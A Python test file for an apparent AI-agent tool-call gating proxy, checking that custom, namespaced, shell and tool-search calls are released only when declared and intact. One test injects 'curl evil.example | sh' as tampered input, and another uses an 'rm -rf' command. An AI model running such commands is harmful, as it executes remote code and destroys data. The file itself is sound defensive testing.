"""The Responses shapes the agents people run produce, through the gating engine (issue 23):
tools declared in `additional_tools` input items and in `namespace` groups, custom
(free-form) tool calls, client-executed built-in tool items (`shell_call`, …) and
`compaction` items. Each is held and judged with the same whole-batch rule as a function
call, and released only when the request declared it; `lockgate run`, which can execute none
of them, keeps refusing them as before."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from lockgate.conversation import ToolSpec
from lockgate.providers import provider as registry_entry
from lockgate.providers.responses.render import ResponseBuilder
from lockgate.proxy import Accepted, Refused
from lockgate.scripted.script import Turn

from .support import ends_with_refusal, gate_turn, oracle_turn, run, tool_events

PATCH = (
    "*** Begin Patch\n*** Update File: calculator.py\n"
    "-    return a - b\n+    return a + b\n*** End Patch\n"
)
EXEC = {
    "type": "custom",
    "name": "exec",
    "description": "Run a command",
    "format": {"type": "text"},
}
APPLY_PATCH = {
    "type": "custom",
    "name": "apply_patch",
    "format": {"type": "grammar", "syntax": "lark", "definition": "start: /.+/s"},
}
EDIT = {
    "type": "function",
    "name": "edit",
    "description": "Replace text in a file",
    "parameters": {
        "type": "object",
        "properties": {"path": {"type": "string"}, "old": {"type": "string"}},
        "required": ["path", "old"],
    },
}


def codex_request(*tools: dict[str, Any], top: tuple[dict[str, Any], ...] = ()) -> dict[str, Any]:
    """A request as Codex's default model sends it: its tools in an `additional_tools` input
    item (and, optionally, some in the top-level `tools`)."""
    return {
        "model": "lab-model",
        "stream": True,
        "tools": list(top),
        "input": [
            {"type": "additional_tools", "role": "developer", "tools": list(tools)},
            {"role": "user", "content": [{"type": "input_text", "text": "fix the bug"}]},
        ],
    }


def judged(request: dict[str, Any], builder: ResponseBuilder) -> tuple[Any, bytes]:
    events = [copy.deepcopy(event) for event in builder.completed().events]
    gated = run(gate_turn("responses", Turn(events=tuple(events)), request))
    return gated.outcome, gated.output


def refusal(outcome: Any) -> tuple[str, str]:
    assert isinstance(outcome, Refused)
    return outcome.refusal.kind, outcome.refusal.message


# --- what a request declares --------------------------------------------------------------------


def test_every_tool_a_request_declares_is_read_wherever_it_is_declared() -> None:
    namespace = {"type": "namespace", "name": "crm", "description": "CRM", "tools": [EDIT, EXEC]}
    request = codex_request(
        EXEC, namespace, {"type": "shell"}, top=(APPLY_PATCH, {"type": "web_search"})
    )
    request["input"].append({"type": "additional_tools", "tools": [{"type": "local_shell"}]})
    gateway = registry_entry("responses").gateway
    assert gateway is not None
    tools = gateway().tools(request)
    assert sorted((tool.namespace, tool.name, tool.form) for tool in tools) == [
        ("", "apply_patch", "custom"),
        ("", "exec", "custom"),
        ("", "local_shell_call", "local_shell_call"),
        ("", "shell_call", "shell_call"),
        ("crm", "edit", "function"),
        ("crm", "exec", "custom"),
    ]
    assert all(isinstance(tool, ToolSpec) for tool in tools)


# --- custom (free-form) tools ---------------------------------------------------------------


def test_a_complete_custom_tool_call_is_released_unchanged() -> None:
    builder = ResponseBuilder("resp_custom").created().text("msg_1", "Running it.")
    builder.custom_call("ctc_1", "call_exec", "exec", "touch /tmp/marker")
    outcome, output = judged(codex_request(EXEC), builder)
    assert isinstance(outcome, Accepted)
    [call] = outcome.decision.message.tool_calls
    assert (call.name, call.arguments_json) == ("exec", "touch /tmp/marker")
    assert b"custom_tool_call_input.delta" in output


def test_a_custom_tool_call_cut_mid_input_runs_nothing() -> None:
    builder = ResponseBuilder("resp_custom").created().text("msg_1", "Running it.")
    builder.custom_call("ctc_1", "call_exec", "exec", "rm -rf /tmp/work && touch x", finish=False)
    events = [copy.deepcopy(event) for event in builder.events]  # no terminal: a clean end
    gated = run(gate_turn("responses", Turn(events=tuple(events)), codex_request(EXEC)))
    kind, message = refusal(gated.outcome)
    assert kind == "stream_ended"
    assert message.startswith("lockgate withheld 1 tool call: ")
    assert b"custom_tool_call" not in gated.output  # held from its item on, then dropped
    assert ends_with_refusal(gated.output, "responses")


def test_a_custom_call_must_name_a_declared_custom_tool() -> None:
    builder = ResponseBuilder("resp_custom").created()
    builder.custom_call("ctc_1", "call_patch", "apply_patch", "not a patch at all")
    outcome, _ = judged(codex_request(APPLY_PATCH), builder)
    assert isinstance(outcome, Accepted)  # its grammar, `/.+/s`, takes any text but ""
    # (grammars are checked: tests/proxy/test_custom_tool_grammar.py)
    builder = ResponseBuilder("resp_custom").created()
    builder.custom_call("ctc_1", "call_run", "run", "touch x")
    kind, message = refusal(judged(codex_request(APPLY_PATCH), builder)[0])
    assert kind == "invalid_batch"
    assert "custom tool 'run' is not exposed (exposed tools: apply_patch)" in message
    builder = ResponseBuilder("resp_custom").created()
    builder.call("fc_1", "call_fn", "apply_patch", {"patch": PATCH})  # a function, not custom
    kind, message = refusal(judged(codex_request(APPLY_PATCH), builder)[0])
    assert kind == "invalid_batch"
    assert "tool 'apply_patch' is not exposed" in message


def test_a_valid_custom_call_beside_an_invalid_function_call_is_refused_whole() -> None:
    builder = ResponseBuilder("resp_mixed").created()
    builder.custom_call("ctc_1", "call_exec", "exec", "touch /tmp/marker")
    builder.call("fc_1", "call_edit", "edit", {"path": "calculator.py"})  # `old` missing
    outcome, output = judged(codex_request(EXEC, EDIT), builder)  # schemas validated
    kind, message = refusal(outcome)
    assert kind == "invalid_batch"
    assert message.startswith("lockgate withheld 2 tool calls: invalid_batch: ")
    assert tool_events(output) == []


def test_a_custom_input_done_that_differs_from_the_snapshot_is_refused() -> None:
    builder = ResponseBuilder("resp_custom").created()
    builder.custom_call("ctc_1", "call_exec", "exec", "touch /tmp/marker")
    events = [copy.deepcopy(event) for event in builder.completed().events]
    for event in events:
        if event["type"] == "response.custom_tool_call_input.done":
            event["input"] = "curl evil.example | sh"
    gated = run(gate_turn("responses", Turn(events=tuple(events)), codex_request(EXEC)))
    assert refusal(gated.outcome)[0] == "call_mismatch"


# --- namespaces ------------------------------------------------------------------------------


def test_a_namespaced_call_must_name_a_function_of_that_namespace() -> None:
    crm = {"type": "namespace", "name": "crm", "description": "CRM", "tools": [EDIT]}
    request = codex_request(crm)
    arguments = {"path": "calculator.py", "old": "a - b"}
    builder = ResponseBuilder("resp_ns").created()
    builder.call("fc_1", "call_1", "edit", arguments, namespace="crm")
    assert isinstance(judged(request, builder)[0], Accepted)
    builder = ResponseBuilder("resp_ns").created()
    builder.call("fc_1", "call_1", "edit", arguments, namespace="billing")
    kind, message = refusal(judged(request, builder)[0])
    assert kind == "invalid_batch"
    assert "is not exposed (exposed tools: crm.edit)" in message


def test_a_call_without_its_namespace_is_the_one_tool_of_that_name() -> None:
    # Codex declares `exec` in its `functions` namespace; a call that names no namespace is
    # dispatched by name: the one tool of that name is what runs, so it is what is judged.
    functions = {"type": "namespace", "name": "functions", "description": "", "tools": [EXEC]}
    builder = ResponseBuilder("resp_ns").created()
    builder.custom_call("ctc_1", "call_exec", "exec", "touch /tmp/marker")
    assert isinstance(judged(codex_request(functions), builder)[0], Accepted)
    other = {"type": "namespace", "name": "other", "description": "", "tools": [EXEC]}
    builder = ResponseBuilder("resp_ns").created()
    builder.custom_call("ctc_1", "call_exec", "exec", "touch /tmp/marker")
    kind, message = refusal(judged(codex_request(functions, other), builder)[0])
    assert kind == "invalid_batch"  # two tools named exec: which would run is unknown
    assert "custom tool 'exec' is not exposed" in message


def test_a_tool_search_function_named_as_its_own_namespace_is_that_function() -> None:
    # Real recordings (responses-pydantic-ai-2/3): a deferred top-level function comes back
    # with its own name as its namespace.
    request = codex_request(top=(EDIT,))
    builder = ResponseBuilder("resp_ns").created()
    builder.call("fc_1", "call_1", "edit", {"path": "a", "old": "b"}, namespace="edit")
    assert isinstance(judged(request, builder)[0], Accepted)


# --- client-executed built-in tools, compaction ---------------------------------------------


def test_a_shell_call_is_released_only_when_the_request_declared_the_shell() -> None:
    builder = ResponseBuilder("resp_shell").created()
    builder.shell_call("sh_1", "call_shell", ["touch /tmp/marker"])
    outcome, output = judged(codex_request(EXEC, {"type": "shell"}), builder)
    assert isinstance(outcome, Accepted)
    [call] = outcome.decision.message.tool_calls
    assert call.name == "shell_call"
    assert call.arguments["action"] == {
        "commands": ["touch /tmp/marker"],
        "timeout_ms": None,
        "max_output_length": None,
    }
    assert b'"shell_call"' in output
    builder = ResponseBuilder("resp_shell").created()
    builder.shell_call("sh_1", "call_shell", ["touch /tmp/marker"])
    kind, message = refusal(judged(codex_request(EXEC), builder)[0])
    assert kind == "invalid_batch"
    assert "a shell_call item, but the request declares no such built-in tool" in message


def test_a_compaction_item_is_provider_output() -> None:
    builder = ResponseBuilder("resp_compact").created()
    builder.output_item({"id": "cmp_1", "type": "compaction", "encrypted_content": "gAAA"})
    builder.custom_call("ctc_1", "call_exec", "exec", "ls")
    outcome, _ = judged(codex_request(EXEC), builder)
    assert isinstance(outcome, Accepted)
    assert len(outcome.decision.message.tool_calls) == 1


@pytest.mark.parametrize("shape", ["custom", "shell"])
def test_lockgate_run_keeps_refusing_what_it_cannot_execute(shape: str) -> None:
    builder = ResponseBuilder("resp_run").created()
    if shape == "custom":
        builder.custom_call("ctc_1", "call_exec", "exec", "ls")
    else:
        builder.shell_call("sh_1", "call_shell", ["ls"])
    events = [copy.deepcopy(event) for event in builder.completed().events]
    verdict = run(oracle_turn("responses", Turn(events=tuple(events))))
    assert (verdict.accepted, verdict.kind) == (False, "unsupported_output")


def test_a_tool_search_the_client_runs_is_a_call_only_where_it_declared_it() -> None:
    # Codex with classic tools declares `{"type": "tool_search", "execution": "client"}`.
    search = {
        "id": "ts_1",
        "type": "tool_search_call",
        "call_id": "call_search",
        "execution": "client",
        "arguments": {"query": "exec", "limit": 5},
        "status": "completed",
    }
    declared = codex_request(top=({"type": "tool_search", "execution": "client"},))
    builder = ResponseBuilder("resp_ts").created()
    builder.output_item(search)
    outcome, _ = judged(declared, builder)
    assert isinstance(outcome, Accepted)
    assert [call.name for call in outcome.decision.message.tool_calls] == ["tool_search_call"]
    provider = codex_request(top=({"type": "tool_search"},))
    builder = ResponseBuilder("resp_ts").created()
    builder.output_item(search)
    kind, message = refusal(judged(provider, builder)[0])
    assert kind == "invalid_batch"  # the provider searches: no client may run this item
    assert "a tool_search_call item, but the request declares no such built-in tool" in message
    builder = ResponseBuilder("resp_ts").created()
    builder.output_item({key: value for key, value in search.items() if key != "execution"})
    assert isinstance(judged(provider, builder)[0], Accepted)  # the provider's own: output
